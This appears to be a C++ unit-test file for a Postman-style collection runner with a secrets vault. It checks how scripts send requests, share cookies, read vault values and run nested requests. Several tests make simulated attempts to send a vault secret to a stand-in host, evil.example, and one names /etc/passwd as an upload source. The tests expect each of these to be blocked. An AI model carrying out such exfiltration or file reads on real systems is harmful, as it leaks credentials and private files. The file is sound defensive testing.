// What scripts may ask for: requests, the vault, cookies, other requests of the collection.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "runner/testing/script_fixture.h"

namespace coffer::runner {
namespace {

using script::Answer;
using script::ScriptCalls;
using script::ScriptJob;
using script::ScriptOutcome;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

class ScriptCallsTest : public ScriptFixture {
 protected:
  ScriptCallsTest() {
    options_.environment = *postman::parse_variable_file(R"({"values": [{"key": "v", "value": "1"}]})");
  }

  // One request with one pre-request script, which is `body`.
  RunSummary run_script(std::function<void(ScriptCalls&)> body) {
    script("s") = [body](const ScriptJob&, ScriptCalls& calls) {
      body(calls);
      return ScriptOutcome();
    };
    return run(one());
  }
  static const postman::Collection& one() {
    static const postman::Collection collection = collection_of(
        R"("auth": {"type": "bearer", "bearer": [{"key": "token", "value": "own"}]}, "item": [{"name": "F", "item": [
            {"name": "List", "event": [)" +
        event("prerequest", "s") + R"(], "request": "https://api.example.com/list"}]}])");
    return collection;
  }
  static Result<Answer> send(ScriptCalls& calls, std::string_view request) {
    return calls.send_request(*json::parse(request));
  }
};

TEST_F(ScriptCallsTest, SendsARequestAsItStands) {
  std::optional<Answer> answer;
  transport_.push(201, "made", {{"X-A", "b"}, {"Set-Cookie", "k=v"}});
  const RunSummary summary = run_script([&](ScriptCalls& calls) {
    answer = *send(calls, R"({"url": "https://h.example/{{v}}/{{$guid}}", "method": "GET",
                              "header": [{"key": "H", "value": "{{v}}"}], "body": {"mode": "raw", "raw": "{{v}}"}})");
  });
  const auto requests = transport_.requests();
  ASSERT_EQ(requests.size(), 2U);
  EXPECT_EQ(requests[0].url, "https://h.example/%7B%7Bv%7D%7D/%7B%7B$guid%7D%7D")
      << "as newman 6.2.2 sends it";
  EXPECT_EQ(requests[0].header("H"), "{{v}}");
  EXPECT_EQ(requests[0].body, "{{v}}");
  EXPECT_EQ(requests[0].header("Authorization"), "") << "the collection's auth is not the script's";
  EXPECT_EQ(requests[1].header("Authorization"), "Bearer own");
  ASSERT_TRUE(answer);
  EXPECT_EQ(answer->response.code, 201);
  EXPECT_EQ(answer->response.body, "made");
  EXPECT_THAT(json::dump(answer->cookies), HasSubstr(R"("name":"k")"));
  EXPECT_EQ(summary.requests, 2U) << "Newman counts it";
  ASSERT_EQ(recorder_.results[0].scripts[0].requests.size(), 1U);
  EXPECT_EQ(recorder_.results[0].scripts[0].requests[0].exchanges[0].status, 201);
}

TEST_F(ScriptCallsTest, ARequestMayBeAnAddressAlone) {
  run_script([](ScriptCalls& calls) { EXPECT_TRUE(calls.send_request("https://h.example/x").ok()); });
  EXPECT_EQ(transport_.requests()[0].url, "https://h.example/x");
}

TEST_F(ScriptCallsTest, SharesTheCookiesOfTheRun) {
  transport_.push(200, "", {{"Set-Cookie", "from=script"}});
  run_script([](ScriptCalls& calls) { EXPECT_TRUE(calls.send_request("https://api.example.com/").ok()); });
  EXPECT_EQ(transport_.requests()[1].header("Cookie"), "from=script");
}

TEST_F(ScriptCallsTest, AFailedRequestIsTheCallsErrorAndCounts) {
  transport_.push(Error{ErrorCode::kNetwork, "refused"});
  const RunSummary summary = run_script([](ScriptCalls& calls) {
    const auto answer = calls.send_request("https://h.example/");
    ASSERT_FALSE(answer.ok());
    EXPECT_EQ(answer.error().code, ErrorCode::kNetwork);
  });
  EXPECT_EQ(summary.failed_requests, 1U);
  EXPECT_EQ(exit_status(summary), 1) << "as newman 6.2.2 has it";
}

TEST_F(ScriptCallsTest, ARequestThatIsNoneIsAnError) {
  run_script([](ScriptCalls& calls) {
    EXPECT_EQ(calls.send_request(7).error().code, ErrorCode::kMalformed);
    EXPECT_EQ(calls.send_request("").error().code, ErrorCode::kInvalidArgument);
  });
  EXPECT_EQ(transport_.requests().size(), 1U);
}

TEST_F(ScriptCallsTest, FilesAreLeftOutWithNewmansWarning) {
  run_script([](ScriptCalls& calls) {
    EXPECT_TRUE(send(
        calls, R"({"url": "https://h.example/", "method": "POST", "body": {"mode": "formdata", "formdata": [
        {"key": "a", "value": "1"}, {"key": "f", "type": "file", "src": "/etc/passwd"}]}})"));
    EXPECT_TRUE(send(calls, R"({"url": "https://h.example/", "method": "POST",
                                "body": {"mode": "file", "file": {"src": "/etc/passwd"}}})"));
  });
  EXPECT_THAT(transport_.requests()[0].form_parts, ElementsAre("a=1"));
  EXPECT_EQ(transport_.requests()[1].body_file, "");
  const auto& console = recorder_.results[0].scripts[0].outcome.console;
  ASSERT_EQ(console.size(), 2U);
  EXPECT_EQ(console[0].level, "warn");
  EXPECT_THAT(console[0].args, ElementsAre("uploading files from scripts is not allowed"));
}

TEST_F(ScriptCallsTest, AScriptMaySendOnlySoMany) {
  int failed = 0;
  run_script([&](ScriptCalls& calls) {
    for (int i = 0; i < 1003; ++i) failed += calls.send_request("https://h.example/").ok() ? 0 : 1;
  });
  EXPECT_EQ(failed, 3);
  EXPECT_EQ(recorder_.results[0].scripts[0].requests.size(), 1000U);
}

TEST_F(ScriptCallsTest, AReferenceInAScriptsRequestNeedsTheGrant) {
  vault_.is_granted = false;
  const RunSummary summary = run_script([](ScriptCalls& calls) {
    const auto answer = calls.send_request("https://api.example.com/{{vault:key}}");
    ASSERT_FALSE(answer.ok());
    EXPECT_EQ(answer.error().code, ErrorCode::kAccessDenied);
    EXPECT_THAT(answer.error().mend, HasSubstr("coffer grant"));
  });
  EXPECT_EQ(transport_.requests().size(), 1U);
  EXPECT_EQ(exit_status(summary), 3);
}

TEST_F(ScriptCallsTest, WithTheGrantItIsResolvedForTheDomainsOfTheSecretAndTheUseIsRecorded) {
  run_script([](ScriptCalls& calls) {
    EXPECT_TRUE(calls.send_request("https://api.example.com/{{vault:key}}").ok());
    const auto elsewhere = calls.send_request("https://evil.example/{{vault:key}}");
    ASSERT_FALSE(elsewhere.ok());
    EXPECT_EQ(elsewhere.error().code, ErrorCode::kDomainNotAllowed);
  });
  EXPECT_EQ(transport_.requests().size(), 2U);
  EXPECT_EQ(transport_.requests()[0].url, std::string("https://api.example.com/") + kSecret);
  ASSERT_EQ(source_.used.size(), 1U);
  EXPECT_THAT(source_.used[0].names, ElementsAre("key"));
  EXPECT_EQ(source_.used[0].request, "F / List (script)");
}

TEST_F(ScriptCallsTest, AnEchoedSecretDoesNotReachAScriptWithoutTheGrant) {
  vault_given_ = false;
  redactor_.add("key", Secret(kSecret));
  transport_.push(200, std::string("{\"a\":\"") + kSecret + "\"}", {{"X-E", kSecret}});
  run_script([](ScriptCalls& calls) {
    const auto answer = calls.send_request("https://h.example/");
    EXPECT_EQ(answer->response.body, R"({"a":"{{vault:key}}"})");
    EXPECT_EQ(json::dump(answer->response.headers), R"([{"key":"X-E","value":"{{vault:key}}"}])");
  });
}

TEST_F(ScriptCallsTest, TheVaultIsSwitchedOnOrTheErrorSaysHow) {
  vault_given_ = false;
  run_script([](ScriptCalls& calls) {
    const auto value = calls.vault_get("key");
    ASSERT_FALSE(value.ok());
    EXPECT_EQ(value.error().code, ErrorCode::kAccessDenied);
    EXPECT_THAT(value.error().mend, HasSubstr("--grant-vault"));
    EXPECT_EQ(calls.vault_set("key", Secret("x")).error().code, ErrorCode::kAccessDenied);
    EXPECT_EQ(calls.vault_unset("key").error().code, ErrorCode::kAccessDenied);
  });
}

TEST_F(ScriptCallsTest, WhatAScriptGetsOrSetsIsKnownToTheRedactor) {
  vault_.values["token"] = "token-of-the-vault";
  run_script([this](ScriptCalls& calls) {
    const auto value = calls.vault_get("token");
    ASSERT_TRUE(value.ok());
    EXPECT_TRUE((*value)->expose([](std::string_view bytes) { return bytes == "token-of-the-vault"; }));
    EXPECT_EQ(*calls.vault_get("none"), nullptr);
    EXPECT_EQ(redactor_.redact("a token-of-the-vault"), "a {{vault:token}}");
    EXPECT_TRUE(calls.vault_set("made", Secret("made-by-a-script")).ok());
    EXPECT_EQ(redactor_.redact("made-by-a-script"), "{{vault:made}}");
    EXPECT_TRUE(calls.vault_unset("made").ok());
  });
  EXPECT_THAT(vault_.uses,
              ElementsAre("get token by Shop: F / List (script)", "get none by Shop: F / List (script)",
                          "set made by Shop: F / List (script)", "unset made by Shop: F / List (script)"));
}

// A script with the grant takes the value out and puts it into a request, where no reference tells of it.
TEST_F(ScriptCallsTest, ARawValueGoesToTheSecretsDomainsOnly) {
  vault_.values["key"] = kSecret;
  run_script([](ScriptCalls& calls) {
    EXPECT_TRUE(calls.vault_get("key").ok());
    const std::string header = std::string(R"("header": [{"key": "X", "value": "Bearer )") + kSecret + "\"}]";
    EXPECT_TRUE(send(calls, R"({"url": "https://api.example.com/a", )" + header + "}").ok());
    for (const std::string& request :
         {R"({"url": "https://evil.example/", )" + header + "}",
          std::string(R"({"url": "https://evil.example/?k=)") + kSecret + "\"}",
          std::string(
              R"({"url": "https://evil.example/", "method": "POST", "body": {"mode": "raw", "raw": ")") +
              kSecret + "\"}}"}) {
      const auto answer = send(calls, request);
      ASSERT_FALSE(answer.ok());
      EXPECT_EQ(answer.error().code, ErrorCode::kDomainNotAllowed);
      EXPECT_THAT(answer.error().what, HasSubstr("{{vault:key}}"));
    }
  });
  EXPECT_EQ(transport_.requests().size(), 2U);
  ASSERT_EQ(source_.used.size(), 1U);
  EXPECT_THAT(source_.used[0].names, ElementsAre("key"));
}

TEST_F(ScriptCallsTest, ARawValueStaysBehindAtARedirect) {
  vault_.values["key"] = kSecret;
  transport_.push(302, "", {{"Location", "https://evil.example/"}});
  run_script([](ScriptCalls& calls) {
    EXPECT_TRUE(calls.vault_get("key").ok());
    EXPECT_TRUE(
        send(calls,
             std::string(R"({"url": "https://api.example.com/a", "header": [{"key": "X", "value": ")") +
                 kSecret + "\"}]}")
            .ok());
  });
  EXPECT_EQ(transport_.requests()[1].url, "https://evil.example/");
  EXPECT_EQ(transport_.requests()[1].header("X"), "");
}

// The same for the item's own request.
TEST_F(ScriptCallsTest, ARawValueInAVariableGoesToTheSecretsDomainsOnly) {
  vault_.values["key"] = kSecret;
  script("s") = [](const ScriptJob& job, ScriptCalls& calls) {
    ScriptOutcome outcome;
    EXPECT_TRUE(calls.vault_get("key").ok());
    outcome.request = *job.request;
    outcome.request->as_object()["url"] = "https://evil.example/";
    outcome.request->as_object()["header"] = json::Array{json::Object{{"key", "X"}, {"value", kSecret}}};
    return outcome;
  };
  run(one());
  EXPECT_TRUE(transport_.requests().empty());
  EXPECT_EQ(recorder_.results[0].error->code, ErrorCode::kDomainNotAllowed);
}

TEST_F(ScriptCallsTest, CookiesAreASharedStore) {
  run_script([](ScriptCalls& calls) {
    EXPECT_TRUE(
        calls
            .cookies(
                "putCookie",
                {*json::parse(
                    R"({"key": "a", "value": "1", "domain": "api.example.com", "path": "/", "hostOnly": true})")})
            .ok());
    EXPECT_THAT(
        json::dump(*calls.cookies("findCookie", {"api.example.com", "/", "a"})),
        testing::StartsWith(
            R"({"key":"a","value":"1","domain":"api.example.com","path":"/","hostOnly":true,"creation":")"));
    EXPECT_EQ(calls.cookies("constructor", {}).error().code, ErrorCode::kInvalidArgument);
  });
  EXPECT_EQ(transport_.requests()[0].header("Cookie"), "a=1");
}

TEST_F(ScriptCallsTest, CookiesAreRedactedWithoutTheGrant) {
  vault_given_ = false;
  redactor_.add("key", Secret(kSecret));
  http::CookieJar jar;
  jar.set_from_header("https://api.example.com/", std::string("s=") + kSecret, clock_.now());
  options_.cookies = &jar;
  run_script([](ScriptCalls& calls) {
    EXPECT_THAT(json::dump(*calls.cookies("getAllCookies", {})), HasSubstr(R"("value":"{{vault:key}}")"));
  });
}

// ------------------------------------------------------------------------------------- runRequest

class NestedRequestTest : public ScriptFixture {
 protected:
  NestedRequestTest()
      : collection_(collection_of(R"("item": [{"name": "A", "event": [)" + event("prerequest", "a") +
                                  R"(], "request": "https://h.example/a?v={{v}}&w={{w}}"},
           {"name": "B", "id": "b-id", "event": [)" +
                                  event("prerequest", "b-pre") + "," + event("test", "b-test") +
                                  R"(], "request": "https://h.example/b?v={{v}}&w={{w}}"}])")) {
    options_.folders = {"A"};
  }

  RunSummary run_both() {
    Parts parts{&transport_, &source_, &redactor_, &clock_, &random_, &vault_, &host_};
    parts.more_scripts = [this] { return std::make_unique<Forward>(host_, made_); };
    auto summary = runner::run(parts, collection_, options_, {&recorder_});
    EXPECT_TRUE(summary.ok());
    return std::move(summary).value();
  }

  // Another host, whose scripts are those of the first.
  class Forward final : public script::ScriptHost {
   public:
    Forward(FakeScriptHost& to, int& made) : to_(to) { ++made; }
    void warm_up() override {}
    ScriptOutcome run(const ScriptJob& job, ScriptCalls& calls) override { return to_.run(job, calls); }

   private:
    FakeScriptHost& to_;
  };

  postman::Collection collection_;
  int made_ = 0;
};

TEST_F(NestedRequestTest, RunsARequestOfTheCollectionWithItsScripts) {
  std::optional<Answer> answer;
  script("a") = [&](const ScriptJob& job, ScriptCalls& calls) {
    ScriptOutcome outcome;
    answer = *calls.run_request("B", *json::parse(R"({"variables": {"v": "lent"}})"));
    outcome.environment = with_variable(*job.environment, "w", "outer");
    return outcome;
  };
  script("b-pre") = [](const ScriptJob& job, ScriptCalls&) {
    ScriptOutcome outcome;
    outcome.environment = with_variable(*job.environment, "w", "inner");
    outcome.globals = with_variable(*job.globals, "g", 1);
    outcome.variables = with_variable(*job.variables, "x", "kept");
    outcome.next_request_set = true;
    outcome.visualizer = script::Visualizer{"t", {}, {}};
    return outcome;
  };
  script("b-test") = [](const ScriptJob&, ScriptCalls&) { return with_assertion("inner", true); };
  const RunSummary summary = run_both();
  EXPECT_THAT(host_.sources(), ElementsAre("a", "b-pre", "b-test"));
  const auto requests = transport_.requests();
  ASSERT_EQ(requests.size(), 2U);
  EXPECT_EQ(requests[0].url, "https://h.example/b?v=lent&w=inner");
  EXPECT_EQ(requests[1].url, "https://h.example/a?v={{v}}&w=outer")
      << "what was lent is gone, what was set later counts";
  ASSERT_TRUE(answer);
  EXPECT_EQ(answer->response.body, "https://h.example/b?v=lent&w=inner");
  EXPECT_EQ(json::dump(summary.globals.at("values")),
            R"([{"key":"g","value":1,"type":"any","enabled":true}])");
  EXPECT_EQ(summary.requests, 2U);
  EXPECT_EQ(summary.assertions, 1U);
  EXPECT_EQ(made_, 1);
  const auto& scripts = recorder_.results[0].scripts;
  ASSERT_EQ(scripts.size(), 3U);
  EXPECT_EQ(scripts[0].owner, "B");
  EXPECT_FALSE(scripts[0].outcome.visualizer);
  EXPECT_EQ(scripts[2].owner, "A");
  EXPECT_EQ(scripts[2].requests.size(), 1U);
  EXPECT_EQ(recorder_.order.size(), 1U) << "setNextRequest() of the inner one does nothing";
}

TEST_F(NestedRequestTest, ItsFailureIsTheCallsError) {
  script("a") = [&](const ScriptJob&, ScriptCalls& calls) {
    EXPECT_THAT(calls.run_request("b-id", {}).error().what, HasSubstr("inner"));
    EXPECT_EQ(calls.run_request("nowhere", {}).error().code, ErrorCode::kNotFound);
    return ScriptOutcome();
  };
  script("b-test") = [](const ScriptJob&, ScriptCalls&) { return with_assertion("inner", false); };
  EXPECT_EQ(run_both().failed_assertions, 1U);
}

TEST_F(NestedRequestTest, ASkippedOneHasNoResponse) {
  script("a") = [&](const ScriptJob&, ScriptCalls& calls) {
    EXPECT_EQ(calls.run_request("B", {})->response.code, 0);
    return ScriptOutcome();
  };
  script("b-pre") = [](const ScriptJob&, ScriptCalls&) {
    ScriptOutcome outcome;
    outcome.skip_request = true;
    return outcome;
  };
  EXPECT_EQ(run_both().requests, 1U);
}

TEST_F(NestedRequestTest, DepthAndNumberAreBounded) {
  int depth = 0;
  script("b-pre") = [&](const ScriptJob&, ScriptCalls& calls) {
    ++depth;
    static_cast<void>(calls.run_request("B", {}));
    return ScriptOutcome();
  };
  int refused = 0;
  script("a") = [&](const ScriptJob&, ScriptCalls& calls) {
    EXPECT_TRUE(calls.run_request("B", {}).ok());
    for (int i = 0; i < 12; ++i) {
      const auto answer = calls.run_request("A2", {});
      refused += !answer && answer.error().code == ErrorCode::kTooLarge ? 1 : 0;
    }
    return ScriptOutcome();
  };
  run_both();
  EXPECT_EQ(depth, 5);
  EXPECT_EQ(refused, 3);
}

}  // namespace
}  // namespace coffer::runner
